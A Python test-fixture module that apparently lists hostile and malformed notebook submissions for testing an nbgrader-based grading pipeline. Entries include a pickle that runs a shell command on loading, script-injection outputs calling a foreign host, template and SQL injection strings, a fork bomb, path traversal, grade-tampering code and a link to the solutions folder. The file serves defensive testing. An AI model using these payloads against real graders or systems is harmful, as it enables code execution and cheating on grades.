"""Attacks and accidents in the notebook. Its answers are in the answer file, so that every one of them is graded."""

from __future__ import annotations

import base64
import json
import pickle

from entries import (
    CASE,
    FOREIGN,
    IDEAL,
    NOTEBOOK,
    Build,
    Entry,
    added,
    code,
    copied_from,
    folder_instead,
    notebook,
    root,
    script,
    with_cell,
    with_file,
    with_link,
    with_notebook,
    with_output,
    without,
)


class Bomb:
    """Unpickling it would run a command."""

    def __reduce__(self):
        import os

        return os.system, ("touch it-ran",)


PICKLE = pickle.dumps(Bomb())
PICKLED = base64.b64encode(PICKLE).decode()
WIDGET = {
    "application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"a": {"model_name": "AnyModel", "model_module": f"https://{FOREIGN}/w.js", "model_module_version": "1.0",
                        "state": {"_esm": f"window.pcHacked=1;import('https://{FOREIGN}/x.js')"}}},
    }
}  # fmt: skip
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.pcHacked=1">{script()}</svg>'


def graded(**change: object) -> Build:
    """The graded cell changed."""
    return notebook(lambda nb, _: nb["cells"][1].update(change))


def graded_as(**change: object) -> Build:
    """What nbgrader knows of the graded cell changed."""
    return notebook(lambda nb, _: nb["cells"][1]["metadata"]["nbgrader"].update(change))


def about(**change: object) -> Build:
    """The notebook's own metadata changed."""
    return notebook(lambda nb, _: nb["metadata"].update(change))


def whole(**change: object) -> Build:
    """The notebook's outermost keys changed."""
    return notebook(lambda nb, _: nb.update(change))


def result(data: dict[str, object]) -> Build:
    return with_output(output_type="execute_result", execution_count=1, metadata={}, data=data)


def display(data: dict[str, object]) -> Build:
    return with_output(output_type="display_data", metadata={}, data=data)


def deep(levels: int) -> dict[str, object]:
    found: dict[str, object] = {}
    for _ in range(levels):
        found = {"a": found}
    return found


CODE = "code in a notebook"
OUTPUTS = "outputs"
METADATA = "notebook metadata"
SHAPE = "the notebook's shape"

ATTACKS: dict[str, Entry] = {
    "code-in-graded-cell": Entry(CODE, "Python in the cell that is graded", notebook(lambda nb, f: nb["cells"][1].update(source=code(f)))),
    "code-in-memo-cell": Entry(CODE, "script in the memo's Markdown cell", notebook(lambda nb, _: nb["cells"][2].update(source=script())), shown=True),
    "code-in-title-cell": Entry(CODE, "script in the title's cell", notebook(lambda nb, _: nb["cells"][0].update(source="# Title\n" + script())), shown=True),
    "code-in-every-cell": Entry(CODE, "every cell made a code cell", notebook(
        lambda nb, f: [cell.update(cell_type="code", source=code(f), outputs=[], execution_count=1) for cell in nb["cells"]] and None)),
    "added-code-cells": Entry(CODE, "code cells before and after", with_cell("code", "{code}")),
    "added-markdown-cells": Entry(CODE, "Markdown cells with script", with_cell("markdown", script()), shown=True),
    "added-raw-cells": Entry(CODE, "raw cells with HTML for nbconvert", with_cell("raw", script(), metadata={"raw_mimetype": "text/html"}), shown=True),
    "shell-magic": Entry(CODE, "a line that goes to the shell", with_cell("code", "!touch {wire}")),
    "bash-magic": Entry(CODE, "a cell for bash", with_cell("code", "%%bash\ntouch {wire}")),
    "run-magic": Entry(CODE, "%run and %load_ext of a file beside", lambda f, c, i: (
        with_file("evil.py")(f, c, i), with_cell("code", "%load_ext evil\n%run evil.py\n%loadpy evil.py")(f, c, i))),
    "javascript-magic": Entry(CODE, "a cell for the browser", with_cell("code", "%%javascript\nwindow.pcHacked=1")),
    "system-exit": Entry(CODE, "code that ends the process", with_cell("code", "import os; os._exit(0)")),
    "endless-loop": Entry(CODE, "code that never ends", with_cell("code", "while True: pass")),
    "fork-bomb": Entry(CODE, "code that multiplies", with_cell("code", "import os\nwhile True: os.fork()")),
    "reads-the-gradebook": Entry(CODE, "code that writes its own grade", with_cell(
        "code", "import sqlite3; sqlite3.connect('gradebook.db').execute('update grade set auto_score = 99')")),
    "input-waits": Entry(CODE, "code that waits for a person", with_cell("code", "input('password: ')")),
    "hidden-tests": Entry(CODE, "marks of hidden tests and solutions", with_cell(
        "code", "### BEGIN HIDDEN TESTS\n{code}\n### END HIDDEN TESTS\n### BEGIN SOLUTION\n{code}\n### END SOLUTION")),
    "autotest": Entry(CODE, "nbgrader's own test templates", with_cell("code", "### AUTOTEST {code}\n### HASHED AUTOTEST {code}")),
    "jinja-in-source": Entry(CODE, "a template for nbconvert", with_cell("markdown", "{{ 7*7 }}{% include '/etc/passwd' %}{{ self.__init__.__globals__ }}")),
    "html-output": Entry(OUTPUTS, "HTML with script", display({"text/html": script()}), shown=True),
    "javascript-output": Entry(OUTPUTS, "JavaScript", display({"application/javascript": f"window.pcHacked=1;fetch('http://{FOREIGN}/')"}), shown=True),
    "svg-output": Entry(OUTPUTS, "SVG that loads and runs", display({"image/svg+xml": SVG}), shown=True),
    "png-that-is-none": Entry(OUTPUTS, "an image that breaks out of its attribute", display({"image/png": f'"></img>{script()}'}), shown=True),
    "latex-output": Entry(OUTPUTS, "LaTeX with a link that runs", display({"text/latex": r"$\href{javascript:window.pcHacked=1}{x}$"}), shown=True),
    "markdown-output": Entry(OUTPUTS, "Markdown with script", display({"text/markdown": script()}), shown=True),
    "pdf-output": Entry(OUTPUTS, "a PDF in base64", display({"application/pdf": base64.b64encode(b"%PDF-1.4 /JavaScript").decode()})),
    "pickle-output": Entry(OUTPUTS, "a pickle in base64", display({"application/x-python-pickle": PICKLED})),
    "widget-output": Entry(OUTPUTS, "a widget whose module is on a foreign host", lambda f, c, i: (
        about(widgets=WIDGET)(f, c, i), display({"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2}})(f, c, i)), shown=True),
    "own-marks": Entry(OUTPUTS, "the learner's own full marks as the result", result({"text/plain": "9.0"}), expects=IDEAL),
    "endless-marks": Entry(OUTPUTS, "infinite points as the result", result({"text/plain": "inf"})),
    "marks-of-nobody": Entry(OUTPUTS, "999 points, with blank answers", lambda f, c, i: (
        result({"text/plain": "999"})(f, c, i), added(*(json.dumps({"case": CASE, "question": q, "answer": None}).encode() + b"\n" for q in i))(f, c, i)),
        expects=0.0),
    "error-output": Entry(OUTPUTS, "an error whose traceback has terminal codes and HTML", with_output(
        output_type="error", ename="<b>x</b>", evalue=script(), traceback=["\x1b[31m" + script() + "\x1b]0;x\x07"]), shown=True),
    "stderr-output": Entry(OUTPUTS, "something on stderr, for which nbgrader gives no points", with_output(output_type="stream", name="stderr", text="warning")),
    "ten-megabytes-of-output": Entry(OUTPUTS, "ten megabytes", with_output(output_type="stream", name="stdout", text="x" * 10_000_000)),
    "output-of-no-kind": Entry(OUTPUTS, "an output without a kind", with_output(data={})),
    "outputs-are-a-number": Entry(OUTPUTS, "outputs that are no list", graded(outputs=7)),
    "attachment-script": Entry(METADATA, "an attachment with script", notebook(
        lambda nb, _: nb["cells"][0].update(attachments={"x.svg": {"image/svg+xml": SVG}}, source="![x](attachment:x.svg)")), shown=True),
    "attachment-path": Entry(METADATA, "an attachment whose name leads out", notebook(
        lambda nb, _: nb["cells"][0].update(attachments={"../../../../it-ran": {"text/plain": "x"}}, source="![x](attachment:../../../../it-ran)"))),
    "kernel-of-their-own": Entry(METADATA, "a kernelspec with a command", about(kernelspec={"name": "../../evil", "display_name": "x", "argv": ["touch", "it-ran"]})),
    "kernel-is-a-list": Entry(METADATA, "a kernelspec of the wrong type", about(kernelspec=[1, 2])),
    "no-metadata": Entry(METADATA, "no metadata at all", whole(metadata={})),
    "metadata-is-text": Entry(METADATA, "metadata that is text", whole(metadata="x")),
    "lexer-of-their-own": Entry(METADATA, "a lexer that is a path", about(language_info={"name": "evil", "pygments_lexer": "../../evil:Lexer", "file_extension": "/../../it-ran"})),
    "title-script": Entry(METADATA, "script in the title and authors", about(title="</title>" + script(), authors=[{"name": script()}]), shown=True),
    "jupytext-header": Entry(METADATA, "a header that wants other files written", about(jupytext={"formats": "ipynb,../../../it-ran//py"})),
    "celltoolbar": Entry(METADATA, "a theme and extension of their own", about(celltoolbar=script(), nbconvert={"template_file": "/etc/passwd"})),
    "points-999": Entry(METADATA, "999 points for the cell", graded_as(points=999)),
    "points-infinite": Entry(METADATA, "points that are no number", graded_as(points=float("inf"))),
    "points-are-text": Entry(METADATA, "points that are text", graded_as(points="9; drop table grade")),
    "other-grade-id": Entry(METADATA, "the cell under another id", graded_as(grade_id="x' or 1=1 --")),
    "unlocked-cell": Entry(METADATA, "the graded cell made a solution", graded_as(locked=False, solution=True, grade=False)),
    "schema-of-tomorrow": Entry(METADATA, "a schema that stops nbgrader for everybody", graded_as(schema_version=99)),
    "schema-of-yesterday": Entry(METADATA, "an old schema that stops nbgrader for everybody", graded_as(schema_version=1)),
    "schema-is-text": Entry(METADATA, "a schema that is text", graded_as(schema_version="x")),
    "forged-checksum": Entry(METADATA, "a checksum of their own", graded_as(checksum="0" * 32)),
    "nbgrader-is-a-list": Entry(METADATA, "nbgrader's metadata as a list", notebook(lambda nb, _: nb["cells"][1]["metadata"].update(nbgrader=[1]))),
    "tags": Entry(METADATA, "tags that change how it is run and shown", notebook(
        lambda nb, _: [cell["metadata"].update(tags=["raises-exception", "remove-cell", "parameters"]) for cell in nb["cells"]] and None)),
    "nan-in-metadata": Entry(METADATA, "a number that is none", about(x=float("nan"))),
    "deep-metadata": Entry(METADATA, "metadata 900 levels deep", about(x=deep(900))),
    "pickle-in-metadata": Entry(METADATA, "a pickle in the metadata", about(pickle=PICKLED)),
    "cells-copied": Entry(SHAPE, "each cell twice", notebook(lambda nb, _: nb.update(cells=nb["cells"] * 2))),
    "cells-deleted": Entry(SHAPE, "the graded cell is gone", notebook(lambda nb, _: nb.update(cells=nb["cells"][:1]))),
    "no-cells": Entry(SHAPE, "no cell at all", whole(cells=[])),
    "cells-are-a-dict": Entry(SHAPE, "cells that are no list", whole(cells={"a": 1})),
    "cell-of-no-kind": Entry(SHAPE, "a cell of an unknown kind", with_cell("evil", "x")),
    "ids-twice": Entry(SHAPE, "one id for all cells", notebook(lambda nb, _: [cell.update(id="same") for cell in nb["cells"]] and None)),
    "id-with-html": Entry(SHAPE, "an id that is HTML", graded(id=f'"><{script()}'), shown=True),
    "source-is-a-number": Entry(SHAPE, "a source that is a number", graded(source=5)),
    "count-of-400-digits": Entry(SHAPE, "an execution count of 400 digits", graded(execution_count=10**400)),
    "half-characters": Entry(SHAPE, "half characters in every source", notebook(lambda nb, _: [cell.update(source="\ud800x") for cell in nb["cells"]] and None)),
    "format-3": Entry(SHAPE, "a notebook of format 3", notebook(lambda nb, _: {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "x"}, "worksheets": [{"cells": [
        {"cell_type": "code", "language": "python", "input": "1", "outputs": [], "collapsed": False, "prompt_number": 1, "metadata": {}}]}]})),
    "format-99": Entry(SHAPE, "a notebook of format 99", whole(nbformat=99)),
    "format-is-text": Entry(SHAPE, "a format that is text", whole(nbformat="4")),
    "notebook-is-a-list": Entry(SHAPE, "JSON that is no notebook", notebook(lambda nb, _: [nb])),
    "notebook-is-a-pickle": Entry(SHAPE, "a pickle in place of the notebook", with_notebook(PICKLE)),
    "notebook-is-python": Entry(SHAPE, "a script in place of the notebook", with_notebook(b"#!/usr/bin/env python\nopen('it-ran', 'w')\n")),
    "notebook-is-empty": Entry(SHAPE, "an empty file", with_notebook(b"")),
    "notebook-is-cut": Entry(SHAPE, "a notebook that was cut off", with_notebook(b'{"cells": [')),
    "notebook-is-deep": Entry(SHAPE, "100,000 brackets", with_notebook(b"[" * 100_000)),
    "notebook-in-utf-16": Entry(SHAPE, "UTF-16", with_notebook('{"cells": []}'.encode("utf-16"))),
    "notebook-with-bom": Entry(SHAPE, "a byte order mark", with_notebook(b'\xef\xbb\xbf{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')),
    "notebook-missing": Entry(SHAPE, "no notebook", without(NOTEBOOK)),
    "notebook-renamed": Entry(SHAPE, "as a browser names a second download", lambda f, c, i: (f / NOTEBOOK).rename(f / f"{CASE} (1).ipynb")),
    "notebook-is-a-folder": Entry(SHAPE, "a folder in its place", folder_instead(NOTEBOOK)),
    "notebook-is-a-link": Entry(SHAPE, "a link to the solution", with_link(NOTEBOOK, lambda f: root(f) / "solutions" / f.name / NOTEBOOK)),
    "notebook-is-a-link-to-zeros": Entry(SHAPE, "a link to a device without end", with_link(NOTEBOOK, lambda f: "/dev/zero")),
    "notebook-is-a-pipe": Entry(SHAPE, "a pipe that nobody writes to", lambda f, c, i: ((f / NOTEBOOK).unlink(), __import__("os").mkfifo(f / NOTEBOOK))),
    "more-notebooks": Entry(SHAPE, "notebooks that nobody asked for", lambda f, c, i: [
        (f / name).write_bytes((f / NOTEBOOK).read_bytes()) for name in ("evil.ipynb", "=1+1.ipynb", "<b>.ipynb")] and None),
    "notebook-set-aside-before": Entry(SHAPE, "a bad notebook, and a folder where it would be set aside", lambda f, c, i: (
        with_notebook(b"no")(f, c, i), folder_instead(f"{NOTEBOOK}.unreadable")(f, c, i))),
    "link-of-a-learner": Entry(SHAPE, "the learner's folder is a link to another's", copied_from("learner"), "is a link", bare=True),
    "link-of-a-unit": Entry(SHAPE, "the unit's folder is a link to another's", copied_from("unit"), "is a link", bare=True),
}  # fmt: skip
